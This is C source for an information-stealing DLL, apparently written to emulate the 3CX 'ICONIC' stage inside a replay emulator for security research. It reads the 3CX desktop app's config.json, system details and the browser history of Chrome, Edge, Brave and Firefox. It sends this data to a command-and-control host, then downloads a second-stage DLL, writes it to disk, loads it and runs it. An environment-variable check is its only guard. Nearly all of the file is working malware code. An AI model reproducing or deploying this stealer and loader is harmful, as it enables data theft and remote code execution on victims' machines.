/*
 * iconic.dll - chainreplay synthetic stage 3 ("ICONIC"-like info stealer), written from scratch.
 *
 * Benign and inert: IconicMain does nothing unless CHAINREPLAY_SANDBOX equals
 * "replay-only" (checked before any file, registry, sync-object or network activity).
 * Meant to run only inside the chainreplay emulator, reading the synthetic files the
 * scenario provides and talking to the emulator's fake C2.
 *
 * Export:
 *   void WINAPI IconicMain(const wchar_t *c2_host, const wchar_t *c2_path,
 *                          const wchar_t *machine_guid)
 *
 * Behaviour:
 *   1. reads %APPDATA%\3CXDesktopApp\config.json (whole file, max 64 KiB);
 *   2. HostName (GetComputerNameW), DomainName (USERDOMAIN, else
 *      GetComputerNameExW(ComputerNameDnsDomain)), OsVersion (GetVersionExW);
 *   3. browser history. SQL cannot run inside the emulator, so the DLL reads each
 *      database whole and walks the SQLite file format itself: sqlite_master gives the
 *      root page of the table (`urls` for Chrome/Edge/Brave, `moz_places` for
 *      Firefox), the table b-tree is walked in rowid order and columns 1 (url) and
 *      2 (title) of each row are kept; the last 500 rows are emitted newest first.
 *      That is the result of `SELECT url, title FROM urls ORDER BY id DESC LIMIT 500`
 *      (resp. moz_places) for databases without overflow pages; cells whose record
 *      spills onto overflow pages are skipped. Missing files are skipped.
 *   4. POSTs one JSON document to https://<c2_host><c2_path> with
 *      "Cookie: __tutma=<guid>" and reads the answer:
 *      {"HostName": "..", "DomainName": "..", "OsVersion": "M.m.b",
 *       "AppConfig": "<config.json as a JSON string>",
 *       "History": {"chrome": [{"url": "..", "title": ".."}, ..], "edge": [..],
 *                   "brave": [..], "firefox": [..]}}
 *   5. if the answer is a path, GETs it from the C2 (stage 4, guard64.dll), writes it to
 *      %APPDATA%\Microsoft\guard64.dll, LoadLibraryW's it and calls its export
 *      GuardMain(c2_host, c2_path, guid) (see ../guard/guard64.c).
 */
#define WIN32_LEAN_AND_MEAN
#include <windows.h>
#include <wininet.h>

#define EXPORT __declspec(dllexport)

#define HISTORY_LIMIT 500
#define MAX_DB_SIZE (64u * 1024u * 1024u)
#define MAX_CONFIG_SIZE (64u * 1024u)
#define MAX_BTREE_DEPTH 20
#define MAX_PAGE_VISITS 200000
#define MAX_PLUGIN_SIZE (1024u * 1024u)

typedef unsigned char u8;
typedef unsigned long long u64;

static const wchar_t USER_AGENT[] =
    L"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    L"3CXDesktopApp/18.11.1197 Chrome/102.0.5005.167 Electron/19.1.9 Safari/537.36";

/* ------------------------------------------------------------------ libc bits */

void *memset(void *d, int c, size_t n)
{
    unsigned char *p = (unsigned char *)d;
    while (n--)
        *p++ = (unsigned char)c;
    return d;
}

void *memcpy(void *d, const void *s, size_t n)
{
    unsigned char *p = (unsigned char *)d;
    const unsigned char *q = (const unsigned char *)s;
    while (n--)
        *p++ = *q++;
    return d;
}

int memcmp(const void *a, const void *b, size_t n)
{
    const unsigned char *p = (const unsigned char *)a, *q = (const unsigned char *)b;
    for (; n; n--, p++, q++)
        if (*p != *q)
            return *p - *q;
    return 0;
}

static size_t wlen(const wchar_t *s)
{
    size_t n = 0;
    while (s[n])
        n++;
    return n;
}

static size_t alen(const char *s)
{
    size_t n = 0;
    while (s[n])
        n++;
    return n;
}

/* Also accepts a 32-bit INVALID_HANDLE_VALUE (0xFFFFFFFF) returned to 64-bit code. */
static int bad_handle(HANDLE h)
{
    return h == INVALID_HANDLE_VALUE || (DWORD)(ULONG_PTR)h == 0xFFFFFFFFu || h == NULL;
}

static void *xalloc(size_t n)
{
    return HeapAlloc(GetProcessHeap(), HEAP_ZERO_MEMORY, n);
}

static void xfree(void *p)
{
    if (p)
        HeapFree(GetProcessHeap(), 0, p);
}

static int sandbox_ok(void)
{
    static const wchar_t want[] = L"replay-only";
    wchar_t buf[32];
    DWORD n = GetEnvironmentVariableW(L"CHAINREPLAY_SANDBOX", buf, 32);
    if (n != sizeof(want) / sizeof(want[0]) - 1)
        return 0;
    for (DWORD i = 0; i < n; i++)
        if (buf[i] != want[i])
            return 0;
    return 1;
}

/* ------------------------------------------------------------------ string builder */

typedef struct {
    char *p;
    size_t n, cap;
    int oom;
} SB;

static void sb_raw(SB *s, const char *d, size_t n)
{
    if (s->oom)
        return;
    if (s->n + n + 1 > s->cap) {
        size_t cap = s->cap ? s->cap : 4096;
        while (s->n + n + 1 > cap)
            cap *= 2;
        char *q = (char *)xalloc(cap);
        if (!q) {
            s->oom = 1;
            return;
        }
        if (s->p) {
            memcpy(q, s->p, s->n);
            xfree(s->p);
        }
        s->p = q;
        s->cap = cap;
    }
    memcpy(s->p + s->n, d, n);
    s->n += n;
    s->p[s->n] = 0;
}

static void sb_str(SB *s, const char *z)
{
    sb_raw(s, z, alen(z));
}

static void sb_uint(SB *s, unsigned v)
{
    char tmp[12], out[12];
    int n = 0, k = 0;
    do {
        tmp[n++] = (char)('0' + v % 10);
        v /= 10;
    } while (v);
    while (n)
        out[k++] = tmp[--n];
    sb_raw(s, out, (size_t)k);
}

/* JSON string body (no quotes) from UTF-8 bytes. */
static void sb_json(SB *s, const u8 *d, size_t n)
{
    static const char hex[] = "0123456789abcdef";
    for (size_t i = 0; i < n; i++) {
        u8 c = d[i];
        if (c == '"' || c == '\\') {
            char e[2] = {'\\', (char)c};
            sb_raw(s, e, 2);
        } else if (c == '\n') {
            sb_raw(s, "\\n", 2);
        } else if (c == '\r') {
            sb_raw(s, "\\r", 2);
        } else if (c == '\t') {
            sb_raw(s, "\\t", 2);
        } else if (c < 0x20 || c == 0x7f) {
            char e[6] = {'\\', 'u', '0', '0', hex[c >> 4], hex[c & 15]};
            sb_raw(s, e, 6);
        } else {
            sb_raw(s, (const char *)&c, 1);
        }
    }
}

/* JSON string body from a wide string (UTF-16 -> UTF-8). */
static void sb_json_w(SB *s, const wchar_t *w)
{
    for (; *w; w++) {
        unsigned c = *w;
        u8 o[4];
        size_t k = 0;
        if (c >= 0xd800 && c <= 0xdbff && w[1] >= 0xdc00 && w[1] <= 0xdfff) {
            c = 0x10000 + ((c - 0xd800) << 10) + ((unsigned)w[1] - 0xdc00);
            w++;
        }
        if (c < 0x80) {
            o[k++] = (u8)c;
        } else if (c < 0x800) {
            o[k++] = (u8)(0xc0 | (c >> 6));
            o[k++] = (u8)(0x80 | (c & 0x3f));
        } else if (c < 0x10000) {
            o[k++] = (u8)(0xe0 | (c >> 12));
            o[k++] = (u8)(0x80 | ((c >> 6) & 0x3f));
            o[k++] = (u8)(0x80 | (c & 0x3f));
        } else {
            o[k++] = (u8)(0xf0 | (c >> 18));
            o[k++] = (u8)(0x80 | ((c >> 12) & 0x3f));
            o[k++] = (u8)(0x80 | ((c >> 6) & 0x3f));
            o[k++] = (u8)(0x80 | (c & 0x3f));
        }
        sb_json(s, o, k);
    }
}

/* ------------------------------------------------------------------ files */

static int env_path(wchar_t *out, DWORD cap, const wchar_t *var, const wchar_t *rel)
{
    DWORD n = GetEnvironmentVariableW(var, out, cap);
    size_t k = wlen(rel);
    if (n == 0 || n >= cap || n + k + 1 > cap)
        return 0;
    memcpy(out + n, rel, (k + 1) * sizeof(wchar_t));
    return 1;
}

static u8 *read_whole(const wchar_t *path, DWORD limit, DWORD *out_n)
{
    HANDLE h = CreateFileW(path, GENERIC_READ, FILE_SHARE_READ | FILE_SHARE_WRITE, NULL, OPEN_EXISTING,
                           FILE_ATTRIBUTE_NORMAL, NULL);
    if (bad_handle(h))
        return NULL;
    DWORD size = GetFileSize(h, NULL), got = 0, chunk;
    u8 *buf = NULL;
    if (size == INVALID_FILE_SIZE || size == 0 || size > limit)
        goto out;
    buf = (u8 *)xalloc(size + 1);
    if (!buf)
        goto out;
    while (got < size) {
        chunk = 0;
        if (!ReadFile(h, buf + got, size - got, &chunk, NULL) || chunk == 0)
            break;
        got += chunk;
    }
    *out_n = got;
out:
    CloseHandle(h);
    return buf;
}

/* ------------------------------------------------------------------ SQLite file walker */

typedef struct {
    const u8 *db;
    DWORD n, psz, usable;
    DWORD visits;
} SQ;

typedef void (*ROW_CB)(void *ctx, u64 rowid, const u8 *rec, DWORD len);

static DWORD be16(const u8 *p) { return ((DWORD)p[0] << 8) | p[1]; }
static DWORD be32(const u8 *p) { return ((DWORD)p[0] << 24) | ((DWORD)p[1] << 16) | ((DWORD)p[2] << 8) | p[3]; }

static int varint(const u8 *p, const u8 *end, u64 *v)
{
    u64 r = 0;
    for (int i = 0; i < 9; i++) {
        if (p + i >= end)
            return 0;
        if (i == 8) {
            *v = (r << 8) | p[i];
            return 9;
        }
        r = (r << 7) | (p[i] & 0x7f);
        if (!(p[i] & 0x80)) {
            *v = r;
            return i + 1;
        }
    }
    return 0;
}

static int sq_open(SQ *q, const u8 *db, DWORD n)
{
    static const char magic[16] = "SQLite format 3";
    if (n < 100 || memcmp(db, magic, 16) != 0)
        return 0;
    q->db = db;
    q->n = n;
    q->psz = be16(db + 16);
    if (q->psz == 1)
        q->psz = 65536;
    if (q->psz < 512 || (q->psz & (q->psz - 1)))
        return 0;
    q->usable = q->psz - db[20];
    q->visits = 0;
    return 1;
}

static void sq_walk(SQ *q, DWORD pg, int depth, ROW_CB cb, void *ctx)
{
    if (pg == 0 || depth > MAX_BTREE_DEPTH || ++q->visits > MAX_PAGE_VISITS)
        return;
    if ((u64)pg * q->psz > q->n)
        return;
    const u8 *page = q->db + (size_t)(pg - 1) * q->psz;
    const u8 *end = page + q->usable;
    const u8 *h = page + (pg == 1 ? 100 : 0);
    DWORD ncell = be16(h + 3);
    if (h[0] == 0x05) { /* table interior */
        const u8 *ptrs = h + 12;
        for (DWORD i = 0; i < ncell && ptrs + 2 * i + 2 <= end; i++) {
            DWORD off = be16(ptrs + 2 * i);
            if (off + 4 > q->usable)
                continue;
            sq_walk(q, be32(page + off), depth + 1, cb, ctx);
        }
        sq_walk(q, be32(h + 8), depth + 1, cb, ctx);
    } else if (h[0] == 0x0d) { /* table leaf */
        const u8 *ptrs = h + 8;
        for (DWORD i = 0; i < ncell && ptrs + 2 * i + 2 <= end; i++) {
            DWORD off = be16(ptrs + 2 * i);
            if (off >= q->usable)
                continue;
            const u8 *c = page + off;
            u64 plen, rowid;
            int k = varint(c, end, &plen);
            if (!k)
                continue;
            c += k;
            k = varint(c, end, &rowid);
            if (!k)
                continue;
            c += k;
            /* records that spill onto overflow pages are skipped */
            if (plen > q->usable - 35 || c + plen > end)
                continue;
            cb(ctx, rowid, c, (DWORD)plen);
        }
    }
}

/* Column idx of a record: serial type in *type, data pointer and length in *data, *dlen. */
static int rec_col(const u8 *rec, DWORD len, int idx, u64 *type, const u8 **data, DWORD *dlen)
{
    const u8 *end = rec + len;
    u64 hsz, st;
    int k = varint(rec, end, &hsz);
    if (!k || hsz > len)
        return 0;
    const u8 *hp = rec + k, *hend = rec + hsz, *body = rec + hsz;
    for (int i = 0; hp < hend; i++) {
        k = varint(hp, hend, &st);
        if (!k)
            return 0;
        hp += k;
        DWORD sz;
        static const u8 isz[10] = {0, 1, 2, 3, 4, 6, 8, 8, 0, 0};
        if (st < 10)
            sz = isz[st];
        else if (st >= 12)
            sz = (DWORD)((st - 12) / 2);
        else
            return 0;
        if (body + sz > end)
            return 0;
        if (i == idx) {
            *type = st;
            *data = body;
            *dlen = sz;
            return 1;
        }
        body += sz;
    }
    return 0;
}

static long long rec_int(u64 type, const u8 *d, DWORD n)
{
    if (type == 8)
        return 0;
    if (type == 9)
        return 1;
    if (type < 1 || type > 6)
        return -1;
    long long v = (d[0] & 0x80) ? -1 : 0;
    for (DWORD i = 0; i < n; i++)
        v = (long long)(((unsigned long long)v << 8) | d[i]);
    return v;
}

typedef struct {
    const char *name;
    DWORD root;
} FIND_TABLE;

static void master_row(void *ctx, u64 rowid, const u8 *rec, DWORD len)
{
    FIND_TABLE *f = (FIND_TABLE *)ctx;
    u64 t;
    const u8 *d;
    DWORD n;
    (void)rowid;
    if (!rec_col(rec, len, 0, &t, &d, &n) || t < 13 || n != 5 || memcmp(d, "table", 5) != 0)
        return;
    if (!rec_col(rec, len, 1, &t, &d, &n) || t < 13 || (t & 1) == 0 || n != alen(f->name) ||
        memcmp(d, f->name, n) != 0)
        return;
    if (!rec_col(rec, len, 3, &t, &d, &n))
        return;
    long long root = rec_int(t, d, n);
    if (root > 0)
        f->root = (DWORD)root;
}

typedef struct {
    const u8 *url, *title;
    DWORD url_n, title_n;
} ROW;

typedef struct {
    ROW rows[HISTORY_LIMIT];
    DWORD next, count;
} RING;

static void history_row(void *ctx, u64 rowid, const u8 *rec, DWORD len)
{
    RING *r = (RING *)ctx;
    ROW row = {0};
    u64 t;
    const u8 *d;
    DWORD n;
    (void)rowid;
    if (!rec_col(rec, len, 1, &t, &d, &n) || t < 13 || (t & 1) == 0 || n == 0)
        return;
    row.url = d;
    row.url_n = n;
    if (rec_col(rec, len, 2, &t, &d, &n) && t >= 13 && (t & 1)) {
        row.title = d;
        row.title_n = n;
    }
    r->rows[r->next] = row;
    r->next = (r->next + 1) % HISTORY_LIMIT;
    if (r->count < HISTORY_LIMIT)
        r->count++;
}

/* Emits `"key": [...]` for one browser database; returns 0 when the file is missing. */
static int history(SB *out, int first, const char *key, const wchar_t *var, const wchar_t *rel,
                   const char *table)
{
    wchar_t path[MAX_PATH + 128];
    DWORD n = 0;
    SQ q;
    FIND_TABLE ft = {table, 0};
    RING *ring;

    if (!env_path(path, MAX_PATH + 128, var, rel))
        return 0;
    u8 *db = read_whole(path, MAX_DB_SIZE, &n);
    if (!db)
        return 0;
    ring = (RING *)xalloc(sizeof(RING));
    if (!ring) {
        xfree(db);
        return 0;
    }
    if (sq_open(&q, db, n)) {
        sq_walk(&q, 1, 0, master_row, &ft);
        if (ft.root)
            sq_walk(&q, ft.root, 0, history_row, ring);
    }
    if (!first)
        sb_str(out, ", ");
    sb_str(out, "\"");
    sb_str(out, key);
    sb_str(out, "\": [");
    for (DWORD i = 0; i < ring->count; i++) {
        /* newest (highest rowid) first */
        const ROW *r = &ring->rows[(ring->next + HISTORY_LIMIT - 1 - i) % HISTORY_LIMIT];
        sb_str(out, i ? ", {\"url\": \"" : "{\"url\": \"");
        sb_json(out, r->url, r->url_n);
        sb_str(out, "\", \"title\": \"");
        sb_json(out, r->title, r->title_n);
        sb_str(out, "\"}");
    }
    sb_str(out, "]");
    xfree(ring);
    xfree(db);
    return 1;
}

/* ------------------------------------------------------------------ system info */

static void system_info(SB *out)
{
    wchar_t host[MAX_COMPUTERNAME_LENGTH + 64], dom[256];
    DWORD n = MAX_COMPUTERNAME_LENGTH + 64;
    OSVERSIONINFOW ver;

    host[0] = 0;
    if (!GetComputerNameW(host, &n))
        host[0] = 0;
    dom[0] = 0;
    n = GetEnvironmentVariableW(L"USERDOMAIN", dom, 256);
    if (n == 0 || n >= 256) {
        n = 256;
        if (!GetComputerNameExW(ComputerNameDnsDomain, dom, &n))
            dom[0] = 0;
    }
    memset(&ver, 0, sizeof(ver));
    ver.dwOSVersionInfoSize = sizeof(ver);
    if (!GetVersionExW(&ver))
        memset(&ver, 0, sizeof(ver));

    sb_str(out, "{\"HostName\": \"");
    sb_json_w(out, host);
    sb_str(out, "\", \"DomainName\": \"");
    sb_json_w(out, dom);
    sb_str(out, "\", \"OsVersion\": \"");
    sb_uint(out, ver.dwMajorVersion);
    sb_str(out, ".");
    sb_uint(out, ver.dwMinorVersion);
    sb_str(out, ".");
    sb_uint(out, ver.dwBuildNumber);
    sb_str(out, "\"");
}

/* ------------------------------------------------------------------ exfiltration */

/* POSTs body; the answer (at most reply_cap bytes) goes to reply, its length is returned. */
static DWORD post(const wchar_t *host, const wchar_t *path, const wchar_t *guid, const SB *body, u8 *reply,
                  DWORD reply_cap)
{
    static const wchar_t *accept[] = {L"*/*", NULL};
    static const wchar_t pfx[] = L"Cookie: __tutma=";
    static const wchar_t sfx[] = L"\r\nAccept-Encoding: gzip, deflate, br\r\n";
    wchar_t cookie[160];
    size_t k = 0;
    DWORD got, total = 0;

    for (const wchar_t *p = pfx; *p; p++)
        cookie[k++] = *p;
    for (const wchar_t *p = guid; *p && k < 100; p++)
        cookie[k++] = *p;
    for (const wchar_t *p = sfx; *p; p++)
        cookie[k++] = *p;
    cookie[k] = 0;

    HINTERNET inet = InternetOpenW(USER_AGENT, INTERNET_OPEN_TYPE_PRECONFIG, NULL, NULL, 0);
    if (!inet)
        return 0;
    HINTERNET conn = InternetConnectW(inet, host, INTERNET_DEFAULT_HTTPS_PORT, NULL, NULL,
                                      INTERNET_SERVICE_HTTP, 0, 0);
    if (conn) {
        HINTERNET req = HttpOpenRequestW(conn, L"POST", path, NULL, NULL, accept,
                                         INTERNET_FLAG_SECURE | INTERNET_FLAG_RELOAD |
                                             INTERNET_FLAG_NO_CACHE_WRITE | INTERNET_FLAG_NO_COOKIES,
                                         0);
        if (req) {
            HttpAddRequestHeadersW(req, cookie, (DWORD)-1, HTTP_ADDREQ_FLAG_ADD | HTTP_ADDREQ_FLAG_REPLACE);
            if (HttpSendRequestW(req, L"Content-Type: application/json\r\n", (DWORD)-1, body->p,
                                 (DWORD)body->n)) {
                DWORD code = 0, len = sizeof(code);
                HttpQueryInfoW(req, HTTP_QUERY_STATUS_CODE | HTTP_QUERY_FLAG_NUMBER, &code, &len, NULL);
                /* the answer: "OK", or the path of a plug-in to install */
                for (int i = 0; i < 64 && total < reply_cap; i++) {
                    got = 0;
                    if (!InternetReadFile(req, reply + total, reply_cap - total, &got) || got == 0)
                        break;
                    total += got;
                }
            }
            InternetCloseHandle(req);
        }
        InternetCloseHandle(conn);
    }
    InternetCloseHandle(inet);
    return total;
}

/* ------------------------------------------------------------------ stage 4 */

typedef void(WINAPI *GUARD_FN)(const wchar_t *, const wchar_t *, const wchar_t *);

/* The upload's answer may name a plug-in (stage 4): GET it from the C2, write it to
 * %APPDATA%\Microsoft\guard64.dll, load it and call GuardMain(host, path, guid). */
static void install_plugin(const wchar_t *host, const wchar_t *c2_path, const wchar_t *guid, const u8 *reply,
                           DWORD n)
{
    static const wchar_t *accept[] = {L"*/*", NULL};
    static const wchar_t pfx[] = L"Cookie: __tutma=";
    wchar_t plugin_path[256], cookie[160], file[MAX_PATH + 64];
    DWORD j = 0, k = 0, got, total = 0, written = 0;
    u8 *dll;

    while (j < n && (reply[j] == ' ' || reply[j] == '\r' || reply[j] == '\n'))
        j++;
    if (j >= n || reply[j] != '/')
        return;
    for (; j < n && reply[j] > ' ' && reply[j] < 0x7f && k + 1 < 256; j++)
        plugin_path[k++] = (wchar_t)reply[j];
    plugin_path[k] = 0;
    k = 0;
    for (const wchar_t *p = pfx; *p; p++)
        cookie[k++] = *p;
    for (const wchar_t *p = guid; *p && k < 140; p++)
        cookie[k++] = *p;
    cookie[k++] = L'\r';
    cookie[k++] = L'\n';
    cookie[k] = 0;

    dll = (u8 *)xalloc(MAX_PLUGIN_SIZE);
    if (!dll)
        return;
    HINTERNET inet = InternetOpenW(USER_AGENT, INTERNET_OPEN_TYPE_PRECONFIG, NULL, NULL, 0);
    HINTERNET conn = inet ? InternetConnectW(inet, host, INTERNET_DEFAULT_HTTPS_PORT, NULL, NULL,
                                             INTERNET_SERVICE_HTTP, 0, 0)
                          : NULL;
    HINTERNET req = conn ? HttpOpenRequestW(conn, L"GET", plugin_path, NULL, NULL, accept,
                                            INTERNET_FLAG_SECURE | INTERNET_FLAG_RELOAD, 0)
                         : NULL;
    if (req) {
        HttpAddRequestHeadersW(req, cookie, (DWORD)-1, HTTP_ADDREQ_FLAG_ADD | HTTP_ADDREQ_FLAG_REPLACE);
        if (HttpSendRequestW(req, NULL, 0, NULL, 0)) {
            while (total < MAX_PLUGIN_SIZE) {
                got = 0;
                if (!InternetReadFile(req, dll + total, MAX_PLUGIN_SIZE - total, &got) || got == 0)
                    break;
                total += got;
            }
        }
        InternetCloseHandle(req);
    }
    if (conn)
        InternetCloseHandle(conn);
    if (inet)
        InternetCloseHandle(inet);
    if (total < 0x200 || dll[0] != 'M' || dll[1] != 'Z' ||
        !env_path(file, MAX_PATH + 64, L"APPDATA", L"\\Microsoft\\guard64.dll")) {
        xfree(dll);
        return;
    }
    HANDLE h = CreateFileW(file, GENERIC_WRITE, 0, NULL, CREATE_ALWAYS, FILE_ATTRIBUTE_NORMAL, NULL);
    if (!bad_handle(h)) {
        WriteFile(h, dll, total, &written, NULL);
        CloseHandle(h);
    }
    xfree(dll);
    if (written != total)
        return;
    HMODULE m = LoadLibraryW(file);
    if (!m)
        return;
    GUARD_FN guard = (GUARD_FN)(void *)GetProcAddress(m, "GuardMain");
    if (guard)
        guard(host, c2_path, guid);
}

/* ------------------------------------------------------------------ export */

EXPORT void WINAPI IconicMain(const wchar_t *c2_host, const wchar_t *c2_path, const wchar_t *machine_guid)
{
    SB out = {0};
    wchar_t path[MAX_PATH + 64];
    DWORD n = 0;
    int first = 1;

    if (!sandbox_ok())
        return;
    if (!c2_host || !c2_path || !machine_guid)
        return;

    system_info(&out);

    sb_str(&out, ", \"AppConfig\": \"");
    if (env_path(path, MAX_PATH + 64, L"APPDATA", L"\\3CXDesktopApp\\config.json")) {
        u8 *cfg = read_whole(path, MAX_CONFIG_SIZE, &n);
        if (cfg) {
            sb_json(&out, cfg, n);
            xfree(cfg);
        }
    }
    sb_str(&out, "\", \"History\": {");
    if (history(&out, first, "chrome", L"LOCALAPPDATA", L"\\Google\\Chrome\\User Data\\Default\\History", "urls"))
        first = 0;
    if (history(&out, first, "edge", L"LOCALAPPDATA", L"\\Microsoft\\Edge\\User Data\\Default\\History", "urls"))
        first = 0;
    if (history(&out, first, "brave", L"LOCALAPPDATA",
                L"\\BraveSoftware\\Brave-Browser\\User Data\\Default\\History", "urls"))
        first = 0;
    if (history(&out, first, "firefox", L"APPDATA",
                L"\\Mozilla\\Firefox\\Profiles\\chainreplay.default-release\\places.sqlite", "moz_places"))
        first = 0;
    sb_str(&out, "}}");

    if (!out.oom) {
        u8 reply[512];
        DWORD n = post(c2_host, c2_path, machine_guid, &out, reply, sizeof(reply));
        xfree(out.p);
        out.p = NULL;
        install_plugin(c2_host, c2_path, machine_guid, reply, n);
    }
    xfree(out.p);
}

BOOL WINAPI DllMain(HINSTANCE inst, DWORD reason, LPVOID reserved)
{
    (void)inst;
    (void)reason;
    (void)reserved;
    return TRUE;
}
